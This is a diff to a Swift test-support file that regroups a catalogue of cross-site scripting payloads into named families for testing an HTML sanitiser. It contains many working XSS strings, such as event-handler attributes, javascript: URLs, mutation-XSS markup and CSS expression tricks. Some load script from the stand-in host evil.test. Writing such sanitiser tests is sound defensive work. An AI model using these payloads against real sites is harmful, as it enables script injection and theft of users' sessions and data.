@@ -1,9 +1,33 @@
-/// Ways to smuggle a script past a sanitiser, by family.
-enum Attacks {
-  static let all =
-    plain + attributes + schemes + rawText + foreignContent + mutation + encodings + styles + broken
+import Testing
 
-  static let plain = [
+/// Ways to smuggle a script past a sanitiser, or to do harm without one, by family. The cases are our own; the families are
+/// those that are known from two decades of finding them.
+struct Attack: CustomTestStringConvertible, Sendable {
+  var family: String
+  var html: String
+  var testDescription: String { "\(family): \(html.prefix(120))" }
+}
+
+enum Attacks {
+  /// A name and cases.
+  typealias Family = (name: String, cases: [String])
+
+  static let all = families.flatMap { family in family.cases.map { Attack(family: family.name, html: $0) } }
+
+  static let families: [Family] =
+    [
+      ("elements that run or load", plain),
+      ("attributes that run or load", attributes),
+      ("addresses that run", schemes),
+      ("text that is no markup", rawText),
+      ("foreign content", foreignContent),
+      ("markup that changes when it is read again", mutation),
+      ("encodings", encodings),
+      ("styles", styles),
+      ("broken markup", broken),
+    ] + running + disguising + mutating
+
+  private static let plain = [
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
     "<scr<script>ipt>alert(1)</script>",
     "<script/xss src=https://evil.test/x.js></script>", "<<script>alert(1);//<</script>", "<script>alert(1)",
@@ -22,7 +46,7 @@ enum Attacks {
     "<body onload=alert(1)>", "<html onclick=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
   ]
 
-  static let attributes = [
+  private static let attributes = [
     "<img src=x onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>",
     "<img src=x\u{0C}onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
     "<a onclick=alert(1)>x</a>",
@@ -39,7 +63,7 @@ enum Attacks {
     "<p aria-\u{22}onclick=alert(1)>x",
   ]
 
-  static let schemes = [
+  private static let schemes = [
     "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>",
     "<a href=' javascript:alert(1)'>x</a>",
     "<a href='java\tscript:alert(1)'>x</a>", "<a href='java\nscript:alert(1)'>x</a>",
@@ -64,7 +88,7 @@ enum Attacks {
     "<a href=\"javascript\u{0}:alert(1)\">x</a>",
   ]
 
-  static let rawText = [
+  private static let rawText = [
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "<style><img src=x onerror=alert(1)></style>",
     "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
@@ -84,7 +108,7 @@ enum Attacks {
     "</ <img src=x onerror=alert(1)>",
   ]
 
-  static let foreignContent = [
+  private static let foreignContent = [
     "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
     "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
     "<svg><animate onbegin=alert(1) attributeName=x></svg>",
@@ -102,7 +126,7 @@ enum Attacks {
     "<math><semantics><annotation><img src=x onerror=alert(1)></annotation></semantics></math>",
   ]
 
-  static let mutation = [
+  private static let mutation = [
     "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
     "<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=alert(1)>'>",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
@@ -124,7 +148,7 @@ enum Attacks {
     "<svg><b><style><a title='</style><img src onerror=alert(1)>'>",
   ]
 
-  static let encodings = [
+  private static let encodings = [
     "&lt;script&gt;alert(1)&lt;/script&gt;", "<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>",
     "%3Cscript%3Ealert(1)%3C/script%3E",
     "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "<img src=\"x\u{2028}onerror=alert(1)\">",
@@ -133,7 +157,7 @@ enum Attacks {
     "<img src=x o\u{0}nerror=alert(1)>", "<a href='java\u{AD}script:alert(1)'>x</a>",
   ]
 
-  static let styles = [
+  private static let styles = [
     "<p style='background:url(javascript:alert(1))'>x</p>", "<p style='width:expression(alert(1))'>x</p>",
     "<p style='wid\\74h:exp\\72 ession(alert(1))'>x</p>", "<p style='x:exp/**/ression(alert(1))'>x</p>",
     "<p style='-moz-binding:url(//evil.test/x)'>x</p>", "<p style='behavior:url(x.htc)'>x</p>",
@@ -148,7 +172,7 @@ enum Attacks {
     "<p style='--x:url(//evil.test);color:var(--x)'>x</p>",
   ]
 
-  static let broken = [
+  private static let broken = [
     "<", "<a", "<a href=\"", "</", "<!", "<!--", "<a href='x' <b>", "<p <p <p>", "<b><p></b></p>",
     "<table><p>x<td>y",
     "<a href=x><a href=y>z", "<i><b></i></b>", "<li><p><ul><li>", "&#x110000;&#xD800;&#0;&bogus;&",
